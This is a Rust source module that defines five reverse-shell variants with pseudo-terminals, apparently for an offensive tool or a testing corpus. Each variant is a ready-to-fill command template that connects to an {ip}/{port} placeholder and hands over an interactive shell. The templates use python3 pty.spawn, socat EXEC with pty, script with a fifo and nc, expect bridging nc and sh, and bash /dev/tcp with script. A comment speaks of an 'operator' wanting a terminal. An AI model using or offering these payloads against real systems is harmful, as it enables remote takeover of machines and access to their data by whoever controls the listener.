//! Shells on a pseudo-terminal whose master leads to the network.

use super::super::variant::{Class, Variant};

pub(super) const ALL: &[Variant] = &[
    Variant::tcp(
        "python3 pty.spawn",
        Class::Pty,
        &["/usr/bin/python3"],
        &[
            "/usr/bin/python3",
            "-c",
            "import os,pty,socket\n\
             s=socket.create_connection(('{ip}',{port}))\n\
             for f in (0,1,2): os.dup2(s.fileno(),f)\n\
             pty.spawn('/bin/sh')",
        ],
    ),
    Variant::tcp(
        "socat exec,pty",
        Class::Pty,
        &["socat"],
        &["socat", "TCP{n}:{host}:{port}", "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"],
    ),
    Variant::tcp(
        "script + fifo + nc",
        Class::Pty,
        &["script", "nc.openbsd"],
        &["sh", "-c", "mkfifo {dir}/f; script -qfc '/bin/sh -i' /dev/null <{dir}/f | nc.openbsd {ip} {port} >{dir}/f"],
    ),
    Variant::tcp(
        "expect between nc and sh",
        Class::Pty,
        &["expect", "nc.openbsd"],
        &[
            "expect",
            "-c",
            "log_user 0; set timeout 10\n\
             spawn -noecho nc.openbsd {ip} {port}; set n $spawn_id; stty -echo < $spawn_out(slave,name)\n\
             spawn -noecho /bin/sh; set s $spawn_id\n\
             expect {\n\
              -i $n -re {.+} { send -i $s -- $expect_out(buffer); exp_continue }\n\
              -i $s -re {.+} { send -i $n -- $expect_out(buffer); exp_continue }\n\
             }",
        ],
    ),
    // What follows most first shells: the operator asks for a terminal.
    Variant::tcp(
        "direct, then a terminal",
        Class::Pty,
        &["bash", "script"],
        &["bash", "-c", "exec script -qfc '/bin/bash -i' /dev/null <>/dev/tcp/{ip}/{port} >&0 2>&0"],
    ),
];
